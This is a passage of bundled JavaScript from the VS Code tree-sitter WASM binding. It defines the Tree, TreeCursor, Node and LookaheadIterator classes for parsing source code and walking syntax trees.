"use strict";
var __create = Object.create;
var __defProp2 = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __commonJS = (cb, mod) => function __require() {
  try {
    return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
  } catch (e) {
    throw mod = 0, e;
  }
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp2(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode or this is not an ESM
  // file that has been converted to a CommonJS file using a Babel-
  // compatible transform (i.e. "__esModule" has not been set), then set
  // "default" to the CommonJS "module.exports" for node compatibility.
  isNodeMode || !mod || !mod.__esModule ? __defProp2(target, "default", { value: mod, enumerable: true }) : target,
  mod
));

// node_modules/@vscode/tree-sitter-wasm/wasm/tree-sitter.js
var require_tree_sitter = __commonJS({
  "node_modules/@vscode/tree-sitter-wasm/wasm/tree-sitter.js"(exports2, module2) {
    var __nodeFsPromises = __toESM(require("node:fs/promises"));
    var __nodeModule = __toESM(require("node:module"));
    (function(global, factory) {
      typeof define === "function" && define.amd ? define(["exports"], factory) : typeof exports2 === "object" && typeof module2 !== "undefined" ? module2.exports = factory() : (global = typeof globalThis !== "undefined" ? globalThis : global || self, global.Parser = factory());
    })(exports2, (function() {
      function getCurrentScriptUrl() {
        if (typeof __filename !== "undefined") {
          return require("url").pathToFileURL(__filename).href;
        }
        if (typeof document !== "undefined") {
          const script = document.currentScript;
          return script ? script.src : void 0;
        }
        throw new Error("Unable to determine script URL");
      }
      var __defProp = Object.defineProperty;
      var __name = (target, value) => __defProp(target, "name", { value, configurable: true });
      var SIZE_OF_SHORT = 2;
      var SIZE_OF_INT = 4;
      var SIZE_OF_CURSOR = 4 * SIZE_OF_INT;
      var SIZE_OF_NODE = 5 * SIZE_OF_INT;
      var SIZE_OF_POINT = 2 * SIZE_OF_INT;
      var SIZE_OF_RANGE = 2 * SIZE_OF_INT + 2 * SIZE_OF_POINT;
      var ZERO_POINT = { row: 0, column: 0 };
      var INTERNAL = /* @__PURE__ */ Symbol("INTERNAL");
      function assertInternal(x) {
        if (x !== INTERNAL) throw new Error("Illegal constructor");
      }
      __name(assertInternal, "assertInternal");
      function isPoint(point) {
        return !!point && typeof point.row === "number" && typeof point.column === "number";
      }
      __name(isPoint, "isPoint");
      function setModule(module22) {
        C = module22;
      }
      __name(setModule, "setModule");
      var C;
      var LookaheadIterator = class {
        static {
          __name(this, "LookaheadIterator");
        }
        /** @internal */
        [0] = 0;
        // Internal handle for WASM
        /** @internal */
        language;
        /** @internal */
        constructor(internal, address, language) {
          assertInternal(internal);
          this[0] = address;
          this.language = language;
        }
        /** Get the current symbol of the lookahead iterator. */
        get currentTypeId() {
          return C._ts_lookahead_iterator_current_symbol(this[0]);
        }
        /** Get the current symbol name of the lookahead iterator. */
        get currentType() {
          return this.language.types[this.currentTypeId] || "ERROR";
        }
        /** Delete the lookahead iterator, freeing its resources. */
        delete() {
          C._ts_lookahead_iterator_delete(this[0]);
          this[0] = 0;
        }
        /**
         * Reset the lookahead iterator.
         *
         * This returns `true` if the language was set successfully and `false`
         * otherwise.
         */
        reset(language, stateId) {
          if (C._ts_lookahead_iterator_reset(this[0], language[0], stateId)) {
            this.language = language;
            return true;
          }
          return false;
        }
        /**
         * Reset the lookahead iterator to another state.
         *
         * This returns `true` if the iterator was reset to the given state and
         * `false` otherwise.
         */
        resetState(stateId) {
          return Boolean(C._ts_lookahead_iterator_reset_state(this[0], stateId));
        }
        /**
         * Returns an iterator that iterates over the symbols of the lookahead iterator.
         *
         * The iterator will yield the current symbol name as a string for each step
         * until there are no more symbols to iterate over.
         */
        [Symbol.iterator]() {
          return {
            next: /* @__PURE__ */ __name(() => {
              if (C._ts_lookahead_iterator_next(this[0])) {
                return { done: false, value: this.currentType };
              }
              return { done: true, value: "" };
            }, "next")
          };
        }
      };
      function getText(tree, startIndex, endIndex, startPosition) {
        const length = endIndex - startIndex;
        let result = tree.textCallback(startIndex, startPosition);
        if (result) {
          startIndex += result.length;
          while (startIndex < endIndex) {
            const string = tree.textCallback(startIndex, startPosition);
            if (string && string.length > 0) {
              startIndex += string.length;
              result += string;
            } else {
              break;
            }
          }
          if (startIndex > endIndex) {
            result = result.slice(0, length);
          }
        }
        return result ?? "";
      }
      __name(getText, "getText");
      var Tree = class _Tree {
        static {
          __name(this, "Tree");
        }
        /** @internal */
        [0] = 0;
        // Internal handle for WASM
        /** @internal */
        textCallback;
        /** The language that was used to parse the syntax tree. */
        language;
        /** @internal */
        constructor(internal, address, language, textCallback) {
          assertInternal(internal);
          this[0] = address;
          this.language = language;
          this.textCallback = textCallback;
        }
        /** Create a shallow copy of the syntax tree. This is very fast. */
        copy() {
          const address = C._ts_tree_copy(this[0]);
          return new _Tree(INTERNAL, address, this.language, this.textCallback);
        }
        /** Delete the syntax tree, freeing its resources. */
        delete() {
          C._ts_tree_delete(this[0]);
          this[0] = 0;
        }
        /** Get the root node of the syntax tree. */
        get rootNode() {
          C._ts_tree_root_node_wasm(this[0]);
          return unmarshalNode(this);
        }
        /**
         * Get the root node of the syntax tree, but with its position shifted
         * forward by the given offset.
         */
        rootNodeWithOffset(offsetBytes, offsetExtent) {
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          C.setValue(address, offsetBytes, "i32");
          marshalPoint(address + SIZE_OF_INT, offsetExtent);
          C._ts_tree_root_node_with_offset_wasm(this[0]);
          return unmarshalNode(this);
        }
        /**
         * Edit the syntax tree to keep it in sync with source code that has been
         * edited.
         *
         * You must describe the edit both in terms of byte offsets and in terms of
         * row/column coordinates.
         */
        edit(edit) {
          marshalEdit(edit);
          C._ts_tree_edit_wasm(this[0]);
        }
        /** Create a new {@link TreeCursor} starting from the root of the tree. */
        walk() {
          return this.rootNode.walk();
        }
        /**
         * Compare this old edited syntax tree to a new syntax tree representing
         * the same document, returning a sequence of ranges whose syntactic
         * structure has changed.
         *
         * For this to work correctly, this syntax tree must have been edited such
         * that its ranges match up to the new tree. Generally, you'll want to
         * call this method right after calling one of the [`Parser::parse`]
         * functions. Call it on the old tree that was passed to parse, and
         * pass the new tree that was returned from `parse`.
         */
        getChangedRanges(other) {
          if (!(other instanceof _Tree)) {
            throw new TypeError("Argument must be a Tree");
          }
          C._ts_tree_get_changed_ranges_wasm(this[0], other[0]);
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(count);
          if (count > 0) {
            let address = buffer;
            for (let i2 = 0; i2 < count; i2++) {
              result[i2] = unmarshalRange(address);
              address += SIZE_OF_RANGE;
            }
            C._free(buffer);
          }
          return result;
        }
        /** Get the included ranges that were used to parse the syntax tree. */
        getIncludedRanges() {
          C._ts_tree_included_ranges_wasm(this[0]);
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(count);
          if (count > 0) {
            let address = buffer;
            for (let i2 = 0; i2 < count; i2++) {
              result[i2] = unmarshalRange(address);
              address += SIZE_OF_RANGE;
            }
            C._free(buffer);
          }
          return result;
        }
      };
      var TreeCursor = class _TreeCursor {
        static {
          __name(this, "TreeCursor");
        }
        /** @internal */
        // @ts-expect-error: never read
        [0] = 0;
        // Internal handle for Wasm
        /** @internal */
        // @ts-expect-error: never read
        [1] = 0;
        // Internal handle for Wasm
        /** @internal */
        // @ts-expect-error: never read
        [2] = 0;
        // Internal handle for Wasm
        /** @internal */
        // @ts-expect-error: never read
        [3] = 0;
        // Internal handle for Wasm
        /** @internal */
        tree;
        /** @internal */
        constructor(internal, tree) {
          assertInternal(internal);
          this.tree = tree;
          unmarshalTreeCursor(this);
        }
        /** Creates a deep copy of the tree cursor. This allocates new memory. */
        copy() {
          const copy = new _TreeCursor(INTERNAL, this.tree);
          C._ts_tree_cursor_copy_wasm(this.tree[0]);
          unmarshalTreeCursor(copy);
          return copy;
        }
        /** Delete the tree cursor, freeing its resources. */
        delete() {
          marshalTreeCursor(this);
          C._ts_tree_cursor_delete_wasm(this.tree[0]);
          this[0] = this[1] = this[2] = 0;
        }
        /** Get the tree cursor's current {@link Node}. */
        get currentNode() {
          marshalTreeCursor(this);
          C._ts_tree_cursor_current_node_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /**
         * Get the numerical field id of this tree cursor's current node.
         *
         * See also {@link TreeCursor#currentFieldName}.
         */
        get currentFieldId() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_field_id_wasm(this.tree[0]);
        }
        /** Get the field name of this tree cursor's current node. */
        get currentFieldName() {
          return this.tree.language.fields[this.currentFieldId];
        }
        /**
         * Get the depth of the cursor's current node relative to the original
         * node that the cursor was constructed with.
         */
        get currentDepth() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_depth_wasm(this.tree[0]);
        }
        /**
         * Get the index of the cursor's current node out of all of the
         * descendants of the original node that the cursor was constructed with.
         */
        get currentDescendantIndex() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_descendant_index_wasm(this.tree[0]);
        }
        /** Get the type of the cursor's current node. */
        get nodeType() {
          return this.tree.language.types[this.nodeTypeId] || "ERROR";
        }
        /** Get the type id of the cursor's current node. */
        get nodeTypeId() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_node_type_id_wasm(this.tree[0]);
        }
        /** Get the state id of the cursor's current node. */
        get nodeStateId() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_node_state_id_wasm(this.tree[0]);
        }
        /** Get the id of the cursor's current node. */
        get nodeId() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_node_id_wasm(this.tree[0]);
        }
        /**
         * Check if the cursor's current node is *named*.
         *
         * Named nodes correspond to named rules in the grammar, whereas
         * *anonymous* nodes correspond to string literals in the grammar.
         */
        get nodeIsNamed() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_node_is_named_wasm(this.tree[0]) === 1;
        }
        /**
         * Check if the cursor's current node is *missing*.
         *
         * Missing nodes are inserted by the parser in order to recover from
         * certain kinds of syntax errors.
         */
        get nodeIsMissing() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_current_node_is_missing_wasm(this.tree[0]) === 1;
        }
        /** Get the string content of the cursor's current node. */
        get nodeText() {
          marshalTreeCursor(this);
          const startIndex = C._ts_tree_cursor_start_index_wasm(this.tree[0]);
          const endIndex = C._ts_tree_cursor_end_index_wasm(this.tree[0]);
          C._ts_tree_cursor_start_position_wasm(this.tree[0]);
          const startPosition = unmarshalPoint(TRANSFER_BUFFER);
          return getText(this.tree, startIndex, endIndex, startPosition);
        }
        /** Get the start position of the cursor's current node. */
        get startPosition() {
          marshalTreeCursor(this);
          C._ts_tree_cursor_start_position_wasm(this.tree[0]);
          return unmarshalPoint(TRANSFER_BUFFER);
        }
        /** Get the end position of the cursor's current node. */
        get endPosition() {
          marshalTreeCursor(this);
          C._ts_tree_cursor_end_position_wasm(this.tree[0]);
          return unmarshalPoint(TRANSFER_BUFFER);
        }
        /** Get the start index of the cursor's current node. */
        get startIndex() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_start_index_wasm(this.tree[0]);
        }
        /** Get the end index of the cursor's current node. */
        get endIndex() {
          marshalTreeCursor(this);
          return C._ts_tree_cursor_end_index_wasm(this.tree[0]);
        }
        /**
         * Move this cursor to the first child of its current node.
         *
         * This returns `true` if the cursor successfully moved, and returns
         * `false` if there were no children.
         */
        gotoFirstChild() {
          marshalTreeCursor(this);
          const result = C._ts_tree_cursor_goto_first_child_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Move this cursor to the last child of its current node.
         *
         * This returns `true` if the cursor successfully moved, and returns
         * `false` if there were no children.
         *
         * Note that this function may be slower than
         * {@link TreeCursor#gotoFirstChild} because it needs to
         * iterate through all the children to compute the child's position.
         */
        gotoLastChild() {
          marshalTreeCursor(this);
          const result = C._ts_tree_cursor_goto_last_child_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Move this cursor to the parent of its current node.
         *
         * This returns `true` if the cursor successfully moved, and returns
         * `false` if there was no parent node (the cursor was already on the
         * root node).
         *
         * Note that the node the cursor was constructed with is considered the root
         * of the cursor, and the cursor cannot walk outside this node.
         */
        gotoParent() {
          marshalTreeCursor(this);
          const result = C._ts_tree_cursor_goto_parent_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Move this cursor to the next sibling of its current node.
         *
         * This returns `true` if the cursor successfully moved, and returns
         * `false` if there was no next sibling node.
         *
         * Note that the node the cursor was constructed with is considered the root
         * of the cursor, and the cursor cannot walk outside this node.
         */
        gotoNextSibling() {
          marshalTreeCursor(this);
          const result = C._ts_tree_cursor_goto_next_sibling_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Move this cursor to the previous sibling of its current node.
         *
         * This returns `true` if the cursor successfully moved, and returns
         * `false` if there was no previous sibling node.
         *
         * Note that this function may be slower than
         * {@link TreeCursor#gotoNextSibling} due to how node
         * positions are stored. In the worst case, this will need to iterate
         * through all the children up to the previous sibling node to recalculate
         * its position. Also note that the node the cursor was constructed with is
         * considered the root of the cursor, and the cursor cannot walk outside this node.
         */
        gotoPreviousSibling() {
          marshalTreeCursor(this);
          const result = C._ts_tree_cursor_goto_previous_sibling_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Move the cursor to the node that is the nth descendant of
         * the original node that the cursor was constructed with, where
         * zero represents the original node itself.
         */
        gotoDescendant(goalDescendantIndex) {
          marshalTreeCursor(this);
          C._ts_tree_cursor_goto_descendant_wasm(this.tree[0], goalDescendantIndex);
          unmarshalTreeCursor(this);
        }
        /**
         * Move this cursor to the first child of its current node that contains or
         * starts after the given byte offset.
         *
         * This returns `true` if the cursor successfully moved to a child node, and returns
         * `false` if no such child was found.
         */
        gotoFirstChildForIndex(goalIndex) {
          marshalTreeCursor(this);
          C.setValue(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalIndex, "i32");
          const result = C._ts_tree_cursor_goto_first_child_for_index_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Move this cursor to the first child of its current node that contains or
         * starts after the given byte offset.
         *
         * This returns the index of the child node if one was found, and returns
         * `null` if no such child was found.
         */
        gotoFirstChildForPosition(goalPosition) {
          marshalTreeCursor(this);
          marshalPoint(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalPosition);
          const result = C._ts_tree_cursor_goto_first_child_for_position_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
          return result === 1;
        }
        /**
         * Re-initialize this tree cursor to start at the original node that the
         * cursor was constructed with.
         */
        reset(node) {
          marshalNode(node);
          marshalTreeCursor(this, TRANSFER_BUFFER + SIZE_OF_NODE);
          C._ts_tree_cursor_reset_wasm(this.tree[0]);
          unmarshalTreeCursor(this);
        }
        /**
         * Re-initialize a tree cursor to the same position as another cursor.
         *
         * Unlike {@link TreeCursor#reset}, this will not lose parent
         * information and allows reusing already created cursors.
         */
        resetTo(cursor) {
          marshalTreeCursor(this, TRANSFER_BUFFER);
          marshalTreeCursor(cursor, TRANSFER_BUFFER + SIZE_OF_CURSOR);
          C._ts_tree_cursor_reset_to_wasm(this.tree[0], cursor.tree[0]);
          unmarshalTreeCursor(this);
        }
      };
      var Node = class {
        static {
          __name(this, "Node");
        }
        /** @internal */
        // @ts-expect-error: never read
        [0] = 0;
        // Internal handle for Wasm
        /** @internal */
        _children;
        /** @internal */
        _namedChildren;
        /** @internal */
        constructor(internal, {
          id,
          tree,
          startIndex,
          startPosition,
          other
        }) {
          assertInternal(internal);
          this[0] = other;
          this.id = id;
          this.tree = tree;
          this.startIndex = startIndex;
          this.startPosition = startPosition;
        }
        /**
         * The numeric id for this node that is unique.
         *
         * Within a given syntax tree, no two nodes have the same id. However:
         *
         * * If a new tree is created based on an older tree, and a node from the old tree is reused in
         *   the process, then that node will have the same id in both trees.
         *
         * * A node not marked as having changes does not guarantee it was reused.
         *
         * * If a node is marked as having changed in the old tree, it will not be reused.
         */
        id;
        /** The byte index where this node starts. */
        startIndex;
        /** The position where this node starts. */
        startPosition;
        /** The tree that this node belongs to. */
        tree;
        /** Get this node's type as a numerical id. */
        get typeId() {
          marshalNode(this);
          return C._ts_node_symbol_wasm(this.tree[0]);
        }
        /**
         * Get the node's type as a numerical id as it appears in the grammar,
         * ignoring aliases.
         */
        get grammarId() {
          marshalNode(this);
          return C._ts_node_grammar_symbol_wasm(this.tree[0]);
        }
        /** Get this node's type as a string. */
        get type() {
          return this.tree.language.types[this.typeId] || "ERROR";
        }
        /**
         * Get this node's symbol name as it appears in the grammar, ignoring
         * aliases as a string.
         */
        get grammarType() {
          return this.tree.language.types[this.grammarId] || "ERROR";
        }
        /**
         * Check if this node is *named*.
         *
         * Named nodes correspond to named rules in the grammar, whereas
         * *anonymous* nodes correspond to string literals in the grammar.
         */
        get isNamed() {
          marshalNode(this);
          return C._ts_node_is_named_wasm(this.tree[0]) === 1;
        }
        /**
         * Check if this node is *extra*.
         *
         * Extra nodes represent things like comments, which are not required
         * by the grammar, but can appear anywhere.
         */
        get isExtra() {
          marshalNode(this);
          return C._ts_node_is_extra_wasm(this.tree[0]) === 1;
        }
        /**
         * Check if this node represents a syntax error.
         *
         * Syntax errors represent parts of the code that could not be incorporated
         * into a valid syntax tree.
         */
        get isError() {
          marshalNode(this);
          return C._ts_node_is_error_wasm(this.tree[0]) === 1;
        }
        /**
         * Check if this node is *missing*.
         *
         * Missing nodes are inserted by the parser in order to recover from
         * certain kinds of syntax errors.
         */
        get isMissing() {
          marshalNode(this);
          return C._ts_node_is_missing_wasm(this.tree[0]) === 1;
        }
        /** Check if this node has been edited. */
        get hasChanges() {
          marshalNode(this);
          return C._ts_node_has_changes_wasm(this.tree[0]) === 1;
        }
        /**
         * Check if this node represents a syntax error or contains any syntax
         * errors anywhere within it.
         */
        get hasError() {
          marshalNode(this);
          return C._ts_node_has_error_wasm(this.tree[0]) === 1;
        }
        /** Get the byte index where this node ends. */
        get endIndex() {
          marshalNode(this);
          return C._ts_node_end_index_wasm(this.tree[0]);
        }
        /** Get the position where this node ends. */
        get endPosition() {
          marshalNode(this);
          C._ts_node_end_point_wasm(this.tree[0]);
          return unmarshalPoint(TRANSFER_BUFFER);
        }
        /** Get the string content of this node. */
        get text() {
          return getText(this.tree, this.startIndex, this.endIndex, this.startPosition);
        }
        /** Get this node's parse state. */
        get parseState() {
          marshalNode(this);
          return C._ts_node_parse_state_wasm(this.tree[0]);
        }
        /** Get the parse state after this node. */
        get nextParseState() {
          marshalNode(this);
          return C._ts_node_next_parse_state_wasm(this.tree[0]);
        }
        /** Check if this node is equal to another node. */
        equals(other) {
          return this.tree === other.tree && this.id === other.id;
        }
        /**
         * Get the node's child at the given index, where zero represents the first child.
         *
         * This method is fairly fast, but its cost is technically log(n), so if
         * you might be iterating over a long list of children, you should use
         * {@link Node#children} instead.
         */
        child(index) {
          marshalNode(this);
          C._ts_node_child_wasm(this.tree[0], index);
          return unmarshalNode(this.tree);
        }
        /**
         * Get this node's *named* child at the given index.
         *
         * See also {@link Node#isNamed}.
         * This method is fairly fast, but its cost is technically log(n), so if
         * you might be iterating over a long list of children, you should use
         * {@link Node#namedChildren} instead.
         */
        namedChild(index) {
          marshalNode(this);
          C._ts_node_named_child_wasm(this.tree[0], index);
          return unmarshalNode(this.tree);
        }
        /**
         * Get this node's child with the given numerical field id.
         *
         * See also {@link Node#childForFieldName}. You can
         * convert a field name to an id using {@link Language#fieldIdForName}.
         */
        childForFieldId(fieldId) {
          marshalNode(this);
          C._ts_node_child_by_field_id_wasm(this.tree[0], fieldId);
          return unmarshalNode(this.tree);
        }
        /**
         * Get the first child with the given field name.
         *
         * If multiple children may have the same field name, access them using
         * {@link Node#childrenForFieldName}.
         */
        childForFieldName(fieldName) {
          const fieldId = this.tree.language.fields.indexOf(fieldName);
          if (fieldId !== -1) return this.childForFieldId(fieldId);
          return null;
        }
        /** Get the field name of this node's child at the given index. */
        fieldNameForChild(index) {
          marshalNode(this);
          const address = C._ts_node_field_name_for_child_wasm(this.tree[0], index);
          if (!address) return null;
          return C.AsciiToString(address);
        }
        /** Get the field name of this node's named child at the given index. */
        fieldNameForNamedChild(index) {
          marshalNode(this);
          const address = C._ts_node_field_name_for_named_child_wasm(this.tree[0], index);
          if (!address) return null;
          return C.AsciiToString(address);
        }
        /**
         * Get an array of this node's children with a given field name.
         *
         * See also {@link Node#children}.
         */
        childrenForFieldName(fieldName) {
          const fieldId = this.tree.language.fields.indexOf(fieldName);
          if (fieldId !== -1 && fieldId !== 0) return this.childrenForFieldId(fieldId);
          return [];
        }
        /**
          * Get an array of this node's children with a given field id.
          *
          * See also {@link Node#childrenForFieldName}.
          */
        childrenForFieldId(fieldId) {
          marshalNode(this);
          C._ts_node_children_by_field_id_wasm(this.tree[0], fieldId);
          const count = C.getValue(TRANSFER_BUFFER, "i32");
          const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(count);
          if (count > 0) {
            let address = buffer;
            for (let i2 = 0; i2 < count; i2++) {
              result[i2] = unmarshalNode(this.tree, address);
              address += SIZE_OF_NODE;
            }
            C._free(buffer);
          }
          return result;
        }
        /** Get the node's first child that contains or starts after the given byte offset. */
        firstChildForIndex(index) {
          marshalNode(this);
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          C.setValue(address, index, "i32");
          C._ts_node_first_child_for_byte_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get the node's first named child that contains or starts after the given byte offset. */
        firstNamedChildForIndex(index) {
          marshalNode(this);
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          C.setValue(address, index, "i32");
          C._ts_node_first_named_child_for_byte_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get this node's number of children. */
        get childCount() {
          marshalNode(this);
          return C._ts_node_child_count_wasm(this.tree[0]);
        }
        /**
         * Get this node's number of *named* children.
         *
         * See also {@link Node#isNamed}.
         */
        get namedChildCount() {
          marshalNode(this);
          return C._ts_node_named_child_count_wasm(this.tree[0]);
        }
        /** Get this node's first child. */
        get firstChild() {
          return this.child(0);
        }
        /**
         * Get this node's first named child.
         *
         * See also {@link Node#isNamed}.
         */
        get firstNamedChild() {
          return this.namedChild(0);
        }
        /** Get this node's last child. */
        get lastChild() {
          return this.child(this.childCount - 1);
        }
        /**
         * Get this node's last named child.
         *
         * See also {@link Node#isNamed}.
         */
        get lastNamedChild() {
          return this.namedChild(this.namedChildCount - 1);
        }
        /**
         * Iterate over this node's children.
         *
         * If you're walking the tree recursively, you may want to use the
         * {@link TreeCursor} APIs directly instead.
         */
        get children() {
          if (!this._children) {
            marshalNode(this);
            C._ts_node_children_wasm(this.tree[0]);
            const count = C.getValue(TRANSFER_BUFFER, "i32");
            const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
            this._children = new Array(count);
            if (count > 0) {
              let address = buffer;
              for (let i2 = 0; i2 < count; i2++) {
                this._children[i2] = unmarshalNode(this.tree, address);
                address += SIZE_OF_NODE;
              }
              C._free(buffer);
            }
          }
          return this._children;
        }
        /**
         * Iterate over this node's named children.
         *
         * See also {@link Node#children}.
         */
        get namedChildren() {
          if (!this._namedChildren) {
            marshalNode(this);
            C._ts_node_named_children_wasm(this.tree[0]);
            const count = C.getValue(TRANSFER_BUFFER, "i32");
            const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
            this._namedChildren = new Array(count);
            if (count > 0) {
              let address = buffer;
              for (let i2 = 0; i2 < count; i2++) {
                this._namedChildren[i2] = unmarshalNode(this.tree, address);
                address += SIZE_OF_NODE;
              }
              C._free(buffer);
            }
          }
          return this._namedChildren;
        }
        /**
         * Get the descendants of this node that are the given type, or in the given types array.
         *
         * The types array should contain node type strings, which can be retrieved from {@link Language#types}.
         *
         * Additionally, a `startPosition` and `endPosition` can be passed in to restrict the search to a byte range.
         */
        descendantsOfType(types, startPosition = ZERO_POINT, endPosition = ZERO_POINT) {
          if (!Array.isArray(types)) types = [types];
          const symbols = [];
          const typesBySymbol = this.tree.language.types;
          for (const node_type of types) {
            if (node_type == "ERROR") {
              symbols.push(65535);
            }
          }
          for (let i2 = 0, n = typesBySymbol.length; i2 < n; i2++) {
            if (types.includes(typesBySymbol[i2])) {
              symbols.push(i2);
            }
          }
          const symbolsAddress = C._malloc(SIZE_OF_INT * symbols.length);
          for (let i2 = 0, n = symbols.length; i2 < n; i2++) {
            C.setValue(symbolsAddress + i2 * SIZE_OF_INT, symbols[i2], "i32");
          }
          marshalNode(this);
          C._ts_node_descendants_of_type_wasm(
            this.tree[0],
            symbolsAddress,
            symbols.length,
            startPosition.row,
            startPosition.column,
            endPosition.row,
            endPosition.column
          );
          const descendantCount = C.getValue(TRANSFER_BUFFER, "i32");
          const descendantAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
          const result = new Array(descendantCount);
          if (descendantCount > 0) {
            let address = descendantAddress;
            for (let i2 = 0; i2 < descendantCount; i2++) {
              result[i2] = unmarshalNode(this.tree, address);
              address += SIZE_OF_NODE;
            }
          }
          C._free(descendantAddress);
          C._free(symbolsAddress);
          return result;
        }
        /** Get this node's next sibling. */
        get nextSibling() {
          marshalNode(this);
          C._ts_node_next_sibling_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get this node's previous sibling. */
        get previousSibling() {
          marshalNode(this);
          C._ts_node_prev_sibling_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /**
         * Get this node's next *named* sibling.
         *
         * See also {@link Node#isNamed}.
         */
        get nextNamedSibling() {
          marshalNode(this);
          C._ts_node_next_named_sibling_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /**
         * Get this node's previous *named* sibling.
         *
         * See also {@link Node#isNamed}.
         */
        get previousNamedSibling() {
          marshalNode(this);
          C._ts_node_prev_named_sibling_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get the node's number of descendants, including one for the node itself. */
        get descendantCount() {
          marshalNode(this);
          return C._ts_node_descendant_count_wasm(this.tree[0]);
        }
        /**
         * Get this node's immediate parent.
         * Prefer {@link Node#childWithDescendant} for iterating over this node's ancestors.
         */
        get parent() {
          marshalNode(this);
          C._ts_node_parent_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /**
         * Get the node that contains `descendant`.
         *
         * Note that this can return `descendant` itself.
         */
        childWithDescendant(descendant) {
          marshalNode(this);
          marshalNode(descendant, 1);
          C._ts_node_child_with_descendant_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get the smallest node within this node that spans the given byte range. */
        descendantForIndex(start22, end = start22) {
          if (typeof start22 !== "number" || typeof end !== "number") {
            throw new Error("Arguments must be numbers");
          }
          marshalNode(this);
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          C.setValue(address, start22, "i32");
          C.setValue(address + SIZE_OF_INT, end, "i32");
          C._ts_node_descendant_for_index_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get the smallest named node within this node that spans the given byte range. */
        namedDescendantForIndex(start22, end = start22) {
          if (typeof start22 !== "number" || typeof end !== "number") {
            throw new Error("Arguments must be numbers");
          }
          marshalNode(this);
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          C.setValue(address, start22, "i32");
          C.setValue(address + SIZE_OF_INT, end, "i32");
          C._ts_node_named_descendant_for_index_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get the smallest node within this node that spans the given point range. */
        descendantForPosition(start22, end = start22) {
          if (!isPoint(start22) || !isPoint(end)) {
            throw new Error("Arguments must be {row, column} objects");
          }
          marshalNode(this);
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          marshalPoint(address, start22);
          marshalPoint(address + SIZE_OF_POINT, end);
          C._ts_node_descendant_for_position_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /** Get the smallest named node within this node that spans the given point range. */
        namedDescendantForPosition(start22, end = start22) {
          if (!isPoint(start22) || !isPoint(end)) {
            throw new Error("Arguments must be {row, column} objects");
          }
          marshalNode(this);
          const address = TRANSFER_BUFFER + SIZE_OF_NODE;
          marshalPoint(address, start22);
          marshalPoint(address + SIZE_OF_POINT, end);
          C._ts_node_named_descendant_for_position_wasm(this.tree[0]);
          return unmarshalNode(this.tree);
        }
        /**
         * Create a new {@link TreeCursor} starting from this node.
         *
         * Note that the given node is considered the root of the cursor,
         * and the cursor cannot walk outside this node.
         */
        walk() {
          marshalNode(this);
          C._ts_tree_cursor_new_wasm(this.tree[0]);
          return new TreeCursor(INTERNAL, this.tree);
        }
        /**
         * Edit this node to keep it in-sync with source code that has been edited.
         *
         * This function is only rarely needed. When you edit a syntax tree with
         * the {@link Tree#edit} method, all of the nodes that you retrieve from
         * the tree afterward will already reflect the edit. You only need to
         * use {@link Node#edit} when you have a specific {@link Node} instance that
         * you want to keep and continue to use after an edit.
         */
        edit(edit) {
